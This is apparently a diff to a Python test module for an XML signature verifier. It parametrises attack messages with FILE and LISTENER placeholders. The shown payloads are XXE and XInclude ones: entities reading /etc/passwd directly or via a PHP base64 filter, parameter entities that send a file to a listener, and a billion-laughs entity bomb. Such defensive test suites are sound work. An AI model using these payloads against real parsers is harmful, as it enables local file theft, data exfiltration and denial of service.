@@ -4,7 +4,8 @@ import re
 from collections.abc import Callable
 from functools import partial
 
-from tests.test_attacks.attack import LISTENER, MARK, Family, Genuine, change, signed_anew
+from tests.test_attacks.attack import MARK, Family, Genuine, change, signed_anew
+from tests.test_attacks.traps import FILE, LISTENER
 
 _BOTH = "soap enveloped"
 DTD = Family("document types", "malformed", kinds=_BOTH)
@@ -16,19 +17,19 @@ TEXT = Family("comments and CDATA in signed text", "malformed", kinds=_BOTH)
 
 def _typed(message: Genuine, *, declared: bytes, said: bytes = b"&x;") -> bytes:
     """The message with a document type before its root, and what that declares in the victim's place."""
-    return declared.replace(b"LISTENER", LISTENER) + message.saying(said)
+    return declared.replace(b"LISTENER", LISTENER).replace(b"FILE", FILE) + message.saying(said)
 
 
 _LAUGHS = b"".join(b'<!ENTITY l%d "%b">' % (n + 1, b"&l%d;" % n * 10) for n in range(12))
 _DTDS = {
-    "entity of a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    "entity of a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "FILE">]>',
     "entity of a device": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///dev/random">]>',
     "entity over http": b'<!DOCTYPE a [<!ENTITY x SYSTEM "LISTENERx">]>',
-    "entity over ftp": b'<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://127.0.0.1:1/x">]>',
-    "entity by PHP's filter": b'<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
+    "entity over ftp": b'<!DOCTYPE a [<!ENTITY x SYSTEM "%bx">]>' % LISTENER.replace(b"http", b"ftp"),
+    "entity by PHP's filter": b'<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=FILE">]>',
     "entity with a public name": b'<!DOCTYPE a [<!ENTITY x PUBLIC "any" "LISTENERx">]>',
     "parameter entity over http": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "LISTENERx"> %p;]>',
-    "parameter entity that sends a file": b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname">'
+    "parameter entity that sends a file": b'<!DOCTYPE a [<!ENTITY % f SYSTEM "FILE">'
     b'<!ENTITY % p SYSTEM "LISTENERx.dtd"> %p; %send;]>',
     "document type elsewhere": b'<!DOCTYPE a SYSTEM "LISTENERx.dtd">',
     "document type with a public name": b'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "LISTENERx.dtd">',
@@ -56,8 +57,8 @@ DTD.add("document type behind", lambda message: message.octets + b"<!DOCTYPE a>"
 
 _XI = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" %b/>'
 for _name, _attributes in {
-    "a file as text": b'href="file:///etc/passwd" parse="text"',
-    "a file as XML": b'href="file:///etc/passwd"',
+    "a file as text": b'href="%b" parse="text"' % FILE,
+    "a file as XML": b'href="%b"' % FILE,
     "http": b'href="%bx"' % LISTENER,
     "itself": b'href="" xpointer="/1"',
 }.items():
@@ -70,7 +71,7 @@ def _beside_signature(message: Genuine, *, attributes: bytes) -> bytes:
 
 
 for _name, _attributes in {
-    "a file": b'href="file:///etc/passwd" parse="text"',
+    "a file": b'href="%b" parse="text"' % FILE,
     "http": b'href="%bx"' % LISTENER,
 }.items():
     XINCLUDE.add(f"{_name} beside the signature", partial(_beside_signature, attributes=_attributes))
@@ -171,7 +172,9 @@ TRAILING.add("JSON", lambda _: b'{"data": "' + MARK + b'"}')
 
 
 def _split(text: bytes, by: bytes) -> bytes:
-    return text[: len(text) // 2] + by + text[len(text) // 2 :]
+    said = text.decode()
+    half = len(said) // 2
+    return said[:half].encode() + by + said[half:].encode()
 
 
 def _victim_split(message: Genuine, *, by: bytes) -> bytes:
